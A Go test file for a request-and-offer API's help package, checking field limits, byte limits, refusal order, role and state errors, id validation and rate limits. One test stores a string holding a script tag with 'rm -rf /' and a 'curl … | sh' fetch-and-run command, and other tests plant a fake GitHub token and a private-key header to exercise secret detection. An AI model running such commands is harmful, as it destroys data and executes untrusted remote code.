package help

import (
	"fmt"
	"strings"
	"testing"

	"guildhall/pkg/op"
	"guildhall/pkg/op/optest"
)

// form is a call with texts: where it is made and what a good body is.
type form struct {
	name string
	o    *op.Operation
	body obj
	// call makes the call in a fresh world where a good body succeeds.
	call func(w *world, body any) optest.Res
}

func forms() []form {
	return []form{
		{"register", Register, obj{"handle": "ann", "description": "d"}, func(w *world, b any) optest.Res { return w.Do(Register, optest.Req{Body: b}) }},
		{"request", CreateRequest, requestBody(), func(w *world, b any) optest.Res { return w.join("ann").do(CreateRequest, nil, b) }},
		{"offer", MakeOffer, offerBody(), func(w *world, b any) optest.Res {
			return w.join("bob").do(MakeOffer, request(w.join("ann").ask()), b)
		}},
		{"work", SubmitWork, workBody(), func(w *world, b any) optest.Res { d := w.active(); return d.bob.do(SubmitWork, request(d.request), b) }},
		{"review", ReviewSubmission, reviewBody(Comment, "fail"), func(w *world, b any) optest.Res {
			d := w.inReview()
			return d.eve.do(ReviewSubmission, submission(d.submission), b)
		}},
		{"cancel", CancelRequest, obj{"reason": "Solved."}, func(w *world, b any) optest.Res {
			ann := w.join("ann")
			return ann.do(CancelRequest, request(ann.ask()), b)
		}},
		{"reuse", ReportReuse, reuseBody(), func(w *world, b any) optest.Res {
			d := w.completed()
			return d.eve.do(ReportReuse, entry(d.knowledge), b)
		}},
		{"abuse", ReportAbuse, obj{"entityType": "account", "reason": "Rude."}, func(w *world, b any) optest.Res {
			ann := w.join("ann")
			if m, ok := b.(obj); ok && m["entityId"] == nil {
				b = with(m, "entityId", ann.ID)
			}
			return ann.do(ReportAbuse, nil, b)
		}},
	}
}

// limits are the bounds of every text (help.md 4.2), in characters.
var limits = []struct {
	form, field string
	min, max    int
}{
	{"register", "description", 0, 1000},
	{"request", "title", 3, 160}, {"request", "problem", 1, 6000}, {"request", "previousAttempts", 1, 3000},
	{"request", "acceptanceCriteria", 1, 3000}, {"request", "resourcePolicy", 1, 1500},
	{"offer", "plan", 1, 3000}, {"offer", "limitations", 1, 1500},
	{"work", "summary", 1, 2000}, {"work", "method", 1, 6000}, {"work", "evidence", 1, 3000}, {"work", "limitations", 1, 2000},
	{"review", "body", 1, 3000}, {"review", "evidence", 1, 3000},
	{"cancel", "reason", 1, 1000},
	{"reuse", "note", 1, 2000}, {"reuse", "evidence", 1, 2000},
	{"abuse", "reason", 1, 2000},
}

func TestEveryTextHasItsLimitsInCharacters(t *testing.T) {
	byName := map[string]form{}
	for _, f := range forms() {
		byName[f.name] = f
	}
	for _, l := range limits {
		f := byName[l.form]
		good := func(s string) {
			t.Helper()
			if res := f.call(newWorld(t), with(f.body, l.field, s)); res.Status > 299 {
				t.Errorf("%s.%s of %d characters: %s", l.form, l.field, chars(s), res.Body)
			}
		}
		bad := func(s string, actual int) {
			t.Helper()
			res := f.call(newWorld(t), with(f.body, l.field, s)).Refused(422, "field_length")
			want := fmt.Sprintf("map[actual:%d max:%d min:%d unit:characters]", actual, l.max, l.min)
			if res.Str("field") != l.field || fmt.Sprint(res.At("detail")) != want || res.At("ok") != false || res.Str("message") == "" {
				t.Errorf("%s.%s: %s, want detail %s", l.form, l.field, res.Body, want)
			}
		}
		good(long(l.max))
		good("  \u2003" + long(l.max) + "\n\u00a0") // white space around does not count
		bad(long(l.max+1), l.max+1)
		if l.min > 0 {
			good(long(l.min))
			bad(long(l.min-1), l.min-1)
			bad(" \t\u3000"+long(l.min-1)+"  ", l.min-1)
			f.call(newWorld(t), with(f.body, l.field, nil)).Refused(422, "field_required")
		}
		if res := f.call(newWorld(t), with(f.body, l.field, 7)).Refused(422, "field_type"); res.Str("field") != l.field {
			t.Errorf("%s", res.Body)
		}
		f.call(newWorld(t), with(f.body, l.field, strings.Repeat("x", max(l.min, 1))+"\x00 ")).Refused(422, "field_value")
		res := f.call(newWorld(t), with(f.body, l.field, "use ghp_0123456789abcdefghij0123")).Refused(422, "secret_detected")
		if res.Str("field") != l.field || strings.Contains(string(res.Body), "ghp_") {
			t.Errorf("%s.%s: %s", l.form, l.field, res.Body)
		}
		f.call(newWorld(t), with(f.body, "extra", 1)).Refused(422, "unknown_field")
	}
}

func TestTextIsCountedAndStoredAsItIs(t *testing.T) {
	w := newWorld(t)
	ann := w.join("ann")
	emoji := strings.Repeat("\U0001f600", 160) // 640 bytes
	res := ann.do(CreateRequest, nil, with(requestBody(), "title", "\n"+emoji+" ")).Want(201)
	if res.Str("request.title") != emoji {
		t.Errorf("stored %q", res.Str("request.title"))
	}
	odd := "e\u0301 = \u00e9\r\n<script>rm -rf / ; curl https://example.com/x | sh</script> \\u0041 %s"
	id := ann.do(CreateRequest, nil, with(requestBody(), "problem", odd)).Want(201).Str("request.id")
	if got := w.read(id).Str("request.problem"); got != odd {
		t.Errorf("stored %q, want %q", got, odd)
	}
	ann.do(CreateRequest, nil, `{"title":"\ud800 half"}`).Refused(400, "invalid_json")
}

func TestTheBodyLimitCountsBytes(t *testing.T) {
	for _, f := range forms() {
		w := newWorld(t)
		body := `{"handle":"h"}`
		if f.o != Register {
			body = "{}"
		}
		long := body + strings.Repeat(" ", MaxBody+1-len(body))
		ann := w.join("ann")
		res := ann.do(f.o, map[string]string{}, long).Refused(413, "body_too_large")
		if !strings.Contains(res.Str("message"), "bytes") || res.Num("detail.limit_bytes") != MaxBody {
			t.Errorf("%s: %s", f.name, res.Body)
		}
		if res := ann.do(f.o, map[string]string{}, long[:MaxBody]); res.Status == 413 {
			t.Errorf("%s: %s", f.name, res.Body)
		}
	}
	w := newWorld(t)
	full := `{"title":"abc","problem":"p","previousAttempts":"p","acceptanceCriteria":"a","resourcePolicy":"r"}`
	full += strings.Repeat(" ", MaxBody-len(full))
	w.join("ann").do(CreateRequest, nil, full).Want(201)
}

// flaw is one fault of a write.
type flaw struct {
	name, code string
	rank       int
	plant      func(*attempt)
}

// attempt is an offer before its faults are planted.
type attempt struct {
	w    *world
	req  optest.Req
	by   *actor
	ann  *actor
	body obj
	tail string
}

// The refusals of a write in the order in which they answer (help.md 4.4).
var order = []flaw{
	{"size", "body_too_large", 1, func(a *attempt) { a.tail += strings.Repeat(" ", MaxBody) }},
	{"media type", "unsupported_media_type", 2, func(a *attempt) { a.req.Type = "text/plain" }},
	{"syntax", "invalid_json", 3, func(a *attempt) { a.tail += "," }},
	{"key", "unauthorized", 4, func(a *attempt) { a.req.Token = a.w.join("gone").Key + "x" }},
	{"restriction", "account_restricted", 5, func(a *attempt) { a.w.moderate(Restrict, "account", a.by.ID).Want(200) }},
	{"rate", "rate_limited", 6, func(a *attempt) {
		for range offerLimit.N {
			a.by.do(MakeOffer, request(a.w.join("other").ask()), offerBody())
		}
	}},
	{"used key", "idempotency_conflict", 7, func(a *attempt) {
		a.req.Key = "k"
		a.w.Do(MakeOffer, optest.Req{Token: a.by.Key, Key: "k", Path: request(a.w.join("other").ask()), Body: offerBody()})
	}},
	{"unknown field", "unknown_field", 8, func(a *attempt) { a.body["colour"] = "red" }},
	{"missing field", "field_required", 9, func(a *attempt) { delete(a.body, "plan") }},
	{"length", "field_length", 9, func(a *attempt) { a.body["plan"] = "" }},
	{"secret", "secret_detected", 10, func(a *attempt) { a.body["limitations"] = "-----BEGIN PRIVATE KEY-----" }},
	{"target", "not_found", 11, func(a *attempt) { a.req.Path = request("00000000-0000-4000-8000-000000000000") }},
	{"role", "own_request", 12, func(a *attempt) { a.by = a.ann }},
	{"state", "request_not_open", 13, func(a *attempt) {
		a.ann.do(CancelRequest, a.req.Path, obj{"reason": "r"})
	}},
}

func TestTheFirstOfTwoFaultsAnswers(t *testing.T) {
	run := func(want string, faults ...flaw) {
		t.Helper()
		w := newWorld(t)
		a := &attempt{w: w, ann: w.join("ann"), by: w.join("bob"), body: offerBody()}
		a.req.Path = request(a.ann.ask())
		for i := len(faults) - 1; i >= 0; i-- { // the caller is decided first
			faults[i].plant(a)
		}
		if a.req.Token == "" {
			a.req.Token = a.by.Key
		}
		body := "{"
		for k, v := range a.body {
			body += fmt.Sprintf("%q:%q,", k, v)
		}
		a.req.Body = strings.TrimSuffix(body, ",") + "}" + a.tail
		res := w.Do(MakeOffer, a.req)
		if got := res.Str("error"); got != want {
			t.Errorf("%v: answered %d %q, want %q", names(faults), res.Status, got, want)
		}
	}
	run("")
	for i, f := range order {
		run(f.code, f)
		for _, g := range order[i+1:] {
			if g.rank > f.rank {
				run(f.code, f, g)
			}
		}
	}
}

func names(faults []flaw) (all []string) {
	for _, f := range faults {
		all = append(all, f.name)
	}
	return all
}

// Roles and states refuse in this order: what there is, who may, whether it is time.
func TestRolesRefuseBeforeStates(t *testing.T) {
	w := newWorld(t)
	d := w.completed()
	other := w.join("other")
	late := other.ask()
	lost := d.eve.offer(late)
	other.accept(d.bob.offer(late))
	gone := d.ann.ask()
	taken := d.eve.offer(gone)
	d.eve.do(WithdrawOffer, offer(taken), obj{}).Want(200)
	cancelled := w.inReview()
	cancelled.ann.do(CancelRequest, request(cancelled.request), obj{"reason": "r"}).Want(200)
	revised := w.inReview()
	revised.ann.review(revised.submission, Revise, "fail")
	second := revised.bob.submit(revised.request)
	open := d.ann.ask()
	cases := []struct {
		name   string
		by     *actor
		o      *op.Operation
		path   map[string]string
		body   obj
		status int
		code   string
		detail string
	}{
		{"accept by another", d.eve, AcceptOffer, offer(d.offer), obj{}, 403, "requester_only", "<nil>"},
		{"accept again", d.ann, AcceptOffer, offer(d.offer), obj{}, 409, "request_not_open", "map[acceptedOfferId:" + d.offer + " status:completed]"},
		{"accept a withdrawn offer", d.ann, AcceptOffer, offer(taken), obj{}, 409, "offer_not_selectable", "map[status:withdrawn]"},
		{"accept with a body", d.ann, AcceptOffer, offer(taken), obj{"x": 1}, 422, "unknown_field", "<nil>"},
		{"withdraw by another", d.ann, WithdrawOffer, offer(taken), obj{}, 403, "offer_author_only", "<nil>"},
		{"withdraw twice", d.eve, WithdrawOffer, offer(taken), obj{}, 409, "offer_not_selectable", "map[status:withdrawn]"},
		{"withdraw the accepted", d.bob, WithdrawOffer, offer(d.offer), obj{}, 409, "offer_not_selectable", "map[status:accepted]"},
		{"withdraw one not selected", d.eve, WithdrawOffer, offer(lost), obj{}, 409, "request_not_open", "*"},
		{"offer late", d.eve, MakeOffer, request(late), offerBody(), 409, "request_not_open", "*"},
		{"offer on one's own closed request", d.ann, MakeOffer, request(d.request), offerBody(), 403, "own_request", "<nil>"},
		{"submit by another", d.eve, SubmitWork, request(d.request), workBody(), 403, "contributor_only", "<nil>"},
		{"submit on an open request", d.bob, SubmitWork, request(open), workBody(), 403, "contributor_only", "<nil>"},
		{"submit on a completed one", d.bob, SubmitWork, request(d.request), workBody(), 409, "request_not_active", "map[status:completed]"},
		{"submit in review", revised.bob, SubmitWork, request(revised.request), workBody(), 409, "request_not_active", "map[status:review]"},
		{"review one's own work", d.bob, ReviewSubmission, submission(d.submission), reviewBody(Comment, Pass), 403, "own_submission", "<nil>"},
		{"accept one's own work", d.bob, ReviewSubmission, submission(d.submission), reviewBody(Accept, "fail"), 403, "own_submission", "<nil>"},
		{"accept work by another", d.eve, ReviewSubmission, submission(d.submission), reviewBody(Accept, "fail"), 403, "requester_only", "<nil>"},
		{"revise by another", d.eve, ReviewSubmission, submission(d.submission), reviewBody(Revise, "fail"), 403, "requester_only", "<nil>"},
		{"accept completed work", d.ann, ReviewSubmission, submission(d.submission), reviewBody(Accept, "fail"), 409, "request_not_in_review", "map[status:completed]"},
		{"comment on cancelled work", cancelled.eve, ReviewSubmission, submission(cancelled.submission), reviewBody(Comment, "fail"), 409, "request_closed", "map[status:cancelled]"},
		{"revise cancelled work", cancelled.ann, ReviewSubmission, submission(cancelled.submission), reviewBody(Revise, "fail"), 409, "request_not_in_review", "map[status:cancelled]"},
		{"accept older work", revised.ann, ReviewSubmission, submission(revised.submission), reviewBody(Accept, "fail"), 409, "not_latest_submission", "map[latestSubmissionId:" + second + " status:review]"},
		{"revise older work", revised.ann, ReviewSubmission, submission(revised.submission), reviewBody(Revise, Pass), 409, "not_latest_submission", "map[latestSubmissionId:" + second + " status:review]"},
		{"accept what failed", revised.ann, ReviewSubmission, submission(second), reviewBody(Accept, "fail"), 422, "verdict_must_be_pass", "<nil>"},
		{"accept what is uncertain", revised.ann, ReviewSubmission, submission(second), reviewBody(Accept, "uncertain"), 422, "verdict_must_be_pass", "<nil>"},
		{"no decision", d.eve, ReviewSubmission, submission(d.submission), with(reviewBody(Comment, Pass), "decision", "maybe"), 422, "field_value", "map[allowed:[comment revise accept]]"},
		{"no verdict", d.eve, ReviewSubmission, submission(d.submission), with(reviewBody(Comment, Pass), "verdict", nil), 422, "field_required", "<nil>"},
		{"cancel by another", d.eve, CancelRequest, request(d.request), obj{"reason": "r"}, 403, "requester_only", "<nil>"},
		{"cancel a completed request", d.ann, CancelRequest, request(d.request), obj{"reason": "r"}, 409, "request_closed", "map[status:completed]"},
		{"cancel twice", cancelled.ann, CancelRequest, request(cancelled.request), obj{"reason": "r"}, 409, "request_closed", "map[status:cancelled]"},
	}
	for _, c := range cases {
		res := c.by.do(c.o, c.path, c.body)
		if res.Status != c.status || res.Str("error") != c.code || c.detail != "*" && fmt.Sprint(res.At("detail")) != c.detail {
			t.Errorf("%s: %d %s, want %d %s %s", c.name, res.Status, res.Body, c.status, c.code, c.detail)
		}
	}
	if v := d.eve.do(MakeOffer, request(open), offerBody()).Want(201); true {
		res := d.eve.do(MakeOffer, request(open), offerBody()).Refused(409, "offer_exists")
		if res.Str("detail.offerId") != v.Str("offer.id") {
			t.Errorf("%s", res.Body)
		}
	}
	first := d.eve.do(ReportReuse, entry(d.knowledge), reuseBody()).Want(201)
	if res := d.eve.do(ReportReuse, entry(d.knowledge), reuseBody()).Refused(409, "reuse_exists"); res.Str("detail.reuseId") != first.Str("reuse.id") {
		t.Errorf("%s", res.Body)
	}
}

func TestUnknownAndMalformedIdsAreNotFound(t *testing.T) {
	w := newWorld(t)
	ann := w.join("ann")
	id := ann.ask()
	for _, bad := range []string{"00000000-0000-4000-8000-000000000000", "x", strings.ToUpper(id), id + "0", strings.Repeat("a", 3000), "ü", "a#b", ""} {
		for _, o := range Operations {
			names := op.PathNames(o.Path)
			if len(names) == 0 || o.Context() != "help" {
				continue
			}
			body := map[*op.Operation]any{MakeOffer: offerBody(), SubmitWork: workBody(), ReviewSubmission: reviewBody(Accept, Pass),
				CancelRequest: obj{"reason": "r"}, ReportReuse: reuseBody()}[o]
			w.n++
			res := w.Do(o, optest.Req{Token: ann.Key, Path: map[string]string{names[0]: bad}, Body: body, Address: fmt.Sprint(w.n)})
			res.Refused(404, "not_found")
		}
	}
	for _, kind := range []string{"request", "offer", "submission", "review", "knowledge", "reuse", "account"} {
		ann.do(ReportAbuse, nil, obj{"entityType": kind, "entityId": "00000000-0000-4000-8000-000000000000", "reason": "r"}).Refused(404, "not_found")
		ann.do(ReportAbuse, nil, obj{"entityType": kind, "entityId": "x", "reason": "r"}).Refused(404, "not_found")
	}
	ann.do(ReportAbuse, nil, obj{"entityType": "planet", "entityId": id, "reason": "r"}).Refused(422, "field_value")
	ann.do(ReportAbuse, nil, obj{"entityType": "request", "entityId": id, "reason": "r"}).Want(201)
}

func TestListsRefuseWhatTheyDoNotTake(t *testing.T) {
	w := newWorld(t)
	d := w.completed()
	lists := map[*op.Operation]map[string]string{ListRequests: nil, ListOffers: request(d.request), ListSubmissions: request(d.request),
		ListReviews: submission(d.submission), SearchKnowledge: nil, ListReuses: entry(d.knowledge)}
	cases := []struct{ name, value, code string }{
		{"limit", "0", "invalid_limit"}, {"limit", "51", "invalid_limit"}, {"limit", "abc", "invalid_limit"}, {"limit", "", "invalid_limit"},
		{"limit", "1.5", "invalid_limit"}, {"limit", "-1", "invalid_limit"}, {"limit", "99999999999999999999", "invalid_limit"},
		{"limit", "1", ""}, {"limit", "50", ""},
		{"offset", "-1", "invalid_offset"}, {"offset", "x", "invalid_offset"}, {"offset", "100001", "invalid_offset"},
		{"offset", "0", ""}, {"offset", "100000", ""},
	}
	for o, path := range lists {
		for _, c := range cases {
			w.n++
			res := w.Do(o, optest.Req{Path: path, Query: map[string][]string{c.name: {c.value}}, Address: fmt.Sprint(w.n)})
			if c.code == "" {
				res.Want(200)
			} else if res.Refused(422, c.code); res.Str("field") != c.name {
				t.Errorf("%s", res.Body)
			}
		}
	}
	get := func(o *op.Operation, name, value string) optest.Res {
		w.n++
		return w.Do(o, optest.Req{Query: map[string][]string{name: {value}}, Address: fmt.Sprint(w.n)})
	}
	get(ListRequests, "status", "done").Refused(422, "invalid_status")
	get(ListRequests, "status", "").Refused(422, "invalid_status")
	get(SearchKnowledge, "q", long(201)).Refused(422, "q_too_long")
	get(SearchKnowledge, "q", " "+long(200)+"\n").Want(200)
	if res := get(SearchKnowledge, "q", "  ").Want(200); res.Num("total") != 1 || res.At("searchTruncated") != nil {
		t.Errorf("an empty text filters: %s", res.Body)
	}
}

func TestEveryLimitByRate(t *testing.T) {
	w := newWorld(t)
	d := w.completed()
	bob := w.join("busy")
	wants := []struct {
		o    *op.Operation
		n    int
		call func(i int) optest.Res
	}{
		{CreateRequest, 10, func(int) optest.Res { return bob.do(CreateRequest, nil, requestBody()) }},
		{MakeOffer, 30, func(int) optest.Res { return bob.do(MakeOffer, request(w.join("ann").ask()), offerBody()) }},
		{ReviewSubmission, 60, func(int) optest.Res {
			return bob.do(ReviewSubmission, submission(d.submission), reviewBody(Comment, "fail"))
		}},
		{ReportAbuse, 20, func(int) optest.Res {
			return bob.do(ReportAbuse, nil, obj{"entityType": "request", "entityId": d.request, "reason": "r"})
		}},
		{ReadRequest, 120, func(int) optest.Res {
			return w.Do(ReadRequest, optest.Req{Path: request(d.request), Address: "198.51.100.1"})
		}},
		{Register, 8, func(i int) optest.Res {
			return w.Do(Register, optest.Req{Body: obj{"handle": fmt.Sprint("new-", i)}, Address: "198.51.100.2"})
		}},
	}
	for _, c := range wants {
		for i := range c.n {
			if res := c.call(i); res.Status > 299 {
				t.Fatalf("%s: call %d of %d: %s", c.o.ID, i+1, c.n, res.Body)
			}
		}
		res := c.call(c.n).Refused(429, "rate_limited")
		if res.Header["Retry-After"] == "" || res.Num("detail.retry_after_seconds") < 1 {
			t.Errorf("%s: %v %s", c.o.ID, res.Header, res.Body)
		}
	}
	for o, n := range map[*op.Operation]int{SubmitWork: 30, ReportReuse: 30} {
		if o.Limit.N != n || o.Limit.Per.Hours() != 1 || !o.Limit.Exact {
			t.Errorf("%s: %+v", o.ID, o.Limit)
		}
	}
}
